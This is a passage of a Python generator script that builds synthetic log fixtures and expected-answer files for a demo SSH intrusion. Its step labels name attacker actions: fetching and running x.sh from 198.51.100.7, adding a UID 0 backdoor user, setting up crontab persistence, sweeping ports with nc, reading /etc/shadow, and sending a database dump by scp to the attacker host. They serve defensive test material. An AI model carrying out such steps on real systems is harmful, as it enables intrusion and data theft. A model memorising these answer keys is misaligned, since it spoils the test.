    res["steps"] = {k: [f"{f_}:{n}" for f_, n in v]
                    for k, v in sorted(tagged.items())}
    return res


def fmt_lines(refs, limit=6):
    if len(refs) > limit:
        return ", ".join(refs[:3]) + f", … ({len(refs)} lines) …, " + refs[-1]
    return ", ".join(refs)


def short(rel):
    return rel.replace(f"{INC}/", "")


STEP_ROWS = [
    ("bf_first", "First brute-force attempt from 203.0.113.45"),
    ("hostile", "Hostile user names (`<script>…`, `=cmd…`) in sshd lines"),
    ("bf_deploy", "Guessing switches to the real account `deploy`"),
    ("accepted_attacker", "`Accepted password for deploy from 203.0.113.45`"),
    ("sudo_list", "`sudo -l` by deploy (COMMAND=list)"),
    ("sudo_curl", "sudo curl of http://198.51.100.7/x.sh"),
    ("sudo_chmod", "sudo chmod +x /tmp/.x.sh"),
    ("sudo_run", "sudo /bin/bash /tmp/.x.sh"),
    ("crontab_replace", "x.sh installs a root crontab (persistence)"),
    ("useradd", "x.sh adds `sysbackup` with UID 0 on bastion-01"),
    ("chpasswd", "x.sh sets sysbackup's password"),
    ("audit_sweep", "auditd: x.sh runs `nc -zw1 10.20.0.7 …`"),
    ("web_sweep", "Port sweep from 10.20.0.5 blocked on web-01"),
    ("audit_lateral", "auditd: ssh from bastion-01 to db-01"),
    ("db_root_key", "db-01: root login with bastion-01's root key"),
    ("db_useradd", "db-01: `sysbackup` created (sudo group)"),
    ("db_sysbackup_login", "db-01: `Accepted password for sysbackup` from 10.20.0.5"),
    ("db_mysqldump", "db-01: sudo mysqldump --all-databases"),
    ("db_gzip", "db-01: sudo gzip of the dump"),
    ("db_scp", "db-01: sudo scp of the dump to 198.51.100.7"),
    ("db_sysbackup_logout", "db-01: sysbackup logs out"),
    ("persist_first", "First run of the crontab beacon"),
    ("attacker_logout", "Attacker's first session ends (`Received disconnect`)"),
    ("accepted_attacker_2", "Attacker returns (`Accepted password for deploy`)"),
    ("sudo_shadow", "sudo cat /etc/shadow"),
    ("alice_login", "alice (on call) logs in"),
    ("ufw_deny_in", "alice: ufw deny from 203.0.113.45"),
    ("ufw_deny_out", "alice: ufw deny out to 198.51.100.7"),
    ("pkill", "alice: pkill -KILL -u deploy"),
    ("attacker_killed", "Attacker's second session closed"),
    ("passwd_lock", "deploy's password locked (`passwd -l`)"),
    ("ufw_in", "UFW BLOCK: 203.0.113.45 → :22 (retries)"),
    ("userdel_refused", "alice: `userdel -r sysbackup` (refused: UID 0 in use)"),
    ("userdel", "alice: `userdel -f -r sysbackup`"),
    ("persist_blocked", "Beacon run at 08:50 (outbound blocked)"),
    ("ufw_out", "UFW BLOCK: 10.20.0.5 → 198.51.100.7:80"),
    ("crontab_delete", "alice: crontab -r (persistence removed)"),
    ("visudo", "alice: edits /etc/sudoers.d/90-deploy"),
    ("ssh_reload", "PasswordAuthentication off, sshd reloaded"),
    ("bob_login", "bob logs in to bastion-01"),
    ("db_bob_login", "bob hops to db-01"),
    ("db_userdel", "db-01: userdel -r sysbackup"),
    ("db_authkeys", "db-01: bastion-01's root key removed"),
    ("alice_logout", "alice logs out"),
]


def file_ts_of(out, ref):
    rel, n = ref.rsplit(":", 1)
    fmt = {fs.rel: fs.fmt for fs in OUTPUT_FILES}[rel]
    ln = out[rel].split("\n")[int(n) - 1]
    return parse_ts(fmt, ln, 2026)


def steps_table(out, fx) -> str:
    rows = []
    for k, (tag, label) in enumerate(STEP_ROWS):
        refs = fx["steps"].get(tag)
        if not refs:
            raise SystemExit(f"step {tag} has no lines")
        first = min((file_ts_of(out, r) for r in refs), key=lambda p: p[2])
        refs_s = [f"{short(r.rsplit(':', 1)[0])}:{r.rsplit(':', 1)[1]}"
                  for r in refs]
        rows.append((first[2], k, f"| {label} | {first[1]} | "
                     f"{fmt_lines(refs_s)} |"))
    rows.sort()
    return "\n".join(["| step | earliest line (UTC) | where (file:line) |",
                      "|---|---|---|"] + [r[2] for r in rows]) + "\n"


def files_table(fx) -> str:
    rows = ["| file | format | lines | SHA-256 |", "|---|---|---:|---|"]
    for rel, i in fx["files"].items():
        rows.append(f"| `{rel}` | {i['format']} | {i['lines']} | "
                    f"`{i['sha256']}` |")
    total = sum(i["lines"] for i in fx["files"].values())
    rows.append(f"| **total** | | **{total}** | |")
    return "\n".join(rows) + "\n"


def expected_md(fx) -> str:
    o = ["# EXPECTED — facts about the demo incident a test can assert",
         "",
         "Generated by `sample-data/generate.py` from the files themselves "
         "(do not edit by hand; the same data is in `expected.json`).",
         "Line numbers are 1-based. RFC 3164 timestamps are UTC and carry no "
         "year: the incident files are read with year **2026**, "
         "`rollover/syslog-newyear.log` with year **2025**.",
         "",
         f"Attacker IPs: `{ATTACKER_IP}` (SSH brute force, interactive "
         f"logins), `{DROP_IP}` (payload download, exfiltration target).",
         "", "## Per file", ""]
    for rel, i in fx["files"].items():
        o.append(f"### `{rel}`")
        o.append("")
        o.append(f"- format: {i['format']}")
        o.append(f"- lines: **{i['lines']}** ({i['bytes']} bytes, LF, final "
                 "newline)")
        o.append(f"- sha256: `{i['sha256']}`")
        o.append(f"- first timestamp: `{i['first_timestamp']['raw']}` "
                 f"(line {i['first_timestamp']['line']}, "
                 f"{i['first_timestamp']['utc']})")
        o.append(f"- last timestamp: `{i['last_timestamp']['raw']}` "
                 f"(line {i['last_timestamp']['line']}, "
                 f"{i['last_timestamp']['utc']})")
        o.append(f"- lines without a parseable timestamp: "
                 f"{i['unparseable_lines'] or 'none'}")
        o.append(f"- lines stamped earlier than the line before: "
                 f"{i['out_of_order_lines'] or 'none'}")
        fb = ", ".join(f"{k}: {v}" for k, v in i["failed_password_by_ip"].items())
        o.append(f"- lines containing `Failed password`: "
                 f"**{i['failed_password_lines']}**" + (f" ({fb})" if fb else ""))
        o.append(f"- lines containing `Invalid user `: {i['invalid_user_lines']}")
        ab = ", ".join(f"{k}: {v}" for k, v in i["accepted_by_user"].items())
        o.append(f"- `Accepted` lines: **{i['accepted_lines']}**"
                 + (f" ({ab})" if ab else ""))
        pw = [a for a in i["accepted"] if a["method"] == "password"]
        if pw:
            o.append("- `Accepted password` lines: " + "; ".join(
                f"line {a['line']} {a['user']} from {a['ip']} port {a['port']}"
                for a in pw))
        o.append(f"- lines with hostile text: {i['hostile_lines'] or 'none'}")
        o.append("- lines mentioning the attacker IPs: " + ", ".join(
            f"{k}: {v}" for k, v in i["lines_mentioning_attacker_ips"].items()))
        if "import_year" in i:
            o.append(f"- imported with year 2025: {i['lines_in_2025']} lines in "
                     f"2025, {i['lines_in_2026']} lines in 2026")
        if "lines_with_structured_data" in i:
            o.append(f"- lines with STRUCTURED-DATA: "
                     f"{i['lines_with_structured_data']}, with NILVALUE `-`: "
                     f"{i['lines_with_nil_structured_data']}; SD-PARAMs with "
                     f"escaped characters on line(s) "
                     f"{i['lines_with_escaped_sd_params']}")
        o.append("")
    tot = sum(i["lines"] for i in fx["files"].values())
    fp = sum(i["failed_password_lines"] for i in fx["files"].values())
    acc = sum(i["accepted_lines"] for i in fx["files"].values())
    o += ["## Totals", "",
          f"- lines in all files: **{tot}**",
          f"- `Failed password` lines in all files: **{fp}**",
          f"- `Accepted` lines in all files: **{acc}**", "",
          "## Accepted lines (all)", "",
          "| file | line | method | user | from | port |",
          "|---|---:|---|---|---|---:|"]
    for rel, i in fx["files"].items():
        for a in i["accepted"]:
            o.append(f"| `{short(rel)}` | {a['line']} | {a['method']} | "
                     f"{a['user']} | {a['ip']} | {a['port']} |")
    o.append("")
    return "\n".join(o)


def readme_blocks(readme: str, blocks: dict[str, str]) -> str:
    for name, body in blocks.items():
        pat = re.compile(rf"(<!-- BEGIN GENERATED: {name} -->\n).*?"
                         rf"(<!-- END GENERATED: {name} -->)", re.S)
        if not pat.search(readme):
            raise SystemExit(f"README.md lacks the '{name}' markers")
        readme = pat.sub(lambda m: m.group(1) + body + m.group(2), readme)
    return readme


def quirks_block(out, fx) -> str:
    """The deliberate oddities, with exact line numbers."""
    o = []
    mal = f"{INC}/bastion-01/malformed.log"
    mlines = out[mal].split("\n")
    for n in fx["files"][mal]["unparseable_lines"]:
        o.append(f"- `bastion-01/malformed.log` line {n}: `{mlines[n - 1]}` "
                 "(no usable timestamp)")
    web = f"{INC}/web-01/syslog"
    wlines = out[web].split("\n")
    for n in fx["files"][web]["out_of_order_lines"]:
        o.append(f"- `web-01/syslog` line {n} is stamped `{wlines[n - 1][:15]}`, "
                 f"earlier than line {n - 1} (`{wlines[n - 2][:15]}`): a kernel "
                 "line delivered late")
    bl = out[f"{INC}/bastion-01/auth.log"].split("\n")
    for n in fx["files"][f"{INC}/bastion-01/auth.log"]["hostile_lines"]:
        o.append(f"- `bastion-01/auth.log` line {n}: hostile text: "
                 f"`` {bl[n - 1][16:]} ``")
    r5 = f"{INC}/bastion-01/messages-rfc5424.log"
    for n in fx["files"][r5]["lines_with_escaped_sd_params"]:
        o.append(f"- `bastion-01/messages-rfc5424.log` line {n}: an SD-PARAM "
                 'value with escaped quotes (`\\"`)')
    return "\n".join(o) + "\n"


def sanity(out, fx):
    """Invariants the README promises; fail loudly if an edit breaks one."""
    F = fx["files"]
    problems = []
    for rel, text in out.items():
        if "\r" in text or not text.endswith("\n") or "\n\n" in text:
            problems.append(f"{rel}: bad line endings")
        if not text.isascii():
            problems.append(f"{rel}: not ASCII")
    if F[f"{INC}/bastion-01/malformed.log"]["unparseable_lines"] != [4, 7]:
        problems.append("malformed.log: broken lines must be 4 and 7")
    if F[f"{INC}/bastion-01/malformed.log"]["lines"] != 10:
        problems.append("malformed.log must have 10 lines")
    if len(F[f"{INC}/web-01/syslog"]["out_of_order_lines"]) != 2:
        problems.append("web-01/syslog must have exactly 2 out-of-order lines")
    for rel, i in F.items():
        if "web-01" not in rel and i["out_of_order_lines"]:
            problems.append(f"{rel}: out of order at {i['out_of_order_lines']}")
        if "malformed" not in rel and i["unparseable_lines"]:
            problems.append(f"{rel}: unparseable {i['unparseable_lines']}")
    if len(F[f"{INC}/bastion-01/auth.log"]["hostile_lines"]) != 6:
        problems.append("expected 6 hostile lines in bastion-01/auth.log")
    roll = F["rollover/syslog-newyear.log"]
    if roll["lines"] != 20 or roll["first_timestamp"]["raw"] != "Dec 31 23:59:50" \
            or roll["last_timestamp"]["raw"] != "Jan  1 00:00:10":
        problems.append("rollover file shape changed")
    if problems:
        raise SystemExit("sanity check failed:\n  " + "\n  ".join(problems))


def all_outputs() -> dict[str, str]:
    out, tagged = build()
    fx = facts(out, tagged)
    sanity(out, fx)
    res = dict(out)
    res[f"{INC}/EXPECTED.md"] = expected_md(fx)
    res[f"{INC}/expected.json"] = json.dumps(fx, indent=2, ensure_ascii=True) + "\n"
    readme_path = ROOT / "README.md"
    if readme_path.exists():
        res["README.md"] = readme_blocks(
            readme_path.read_text(encoding="utf-8"),
            {"steps": steps_table(out, fx), "files": files_table(fx),
             "quirks": quirks_block(out, fx)})
    return res


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--check", action="store_true",
                    help="compare with the files on disk, write nothing")
    a = ap.parse_args()
    res = all_outputs()
    # determinism self-test: a second build must be byte-identical
    if all_outputs() != res:
        print("generator is not deterministic", file=sys.stderr)
        return 2
    bad = 0
    for rel, text in res.items():
        p = ROOT / rel
        if a.check:
            cur = p.read_bytes() if p.exists() else None
            if cur != text.encode("utf-8"):
                print(f"DIFFERS: {rel}", file=sys.stderr)
                bad += 1
        else:
            p.parent.mkdir(parents=True, exist_ok=True)
            with open(p, "w", encoding="utf-8", newline="\n") as fh:
                fh.write(text)
    if a.check:
        print("ok" if not bad else f"{bad} file(s) differ")
        return 1 if bad else 0
    for rel, text in res.items():
        print(f"{text.count(chr(10)):6d}  {rel}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
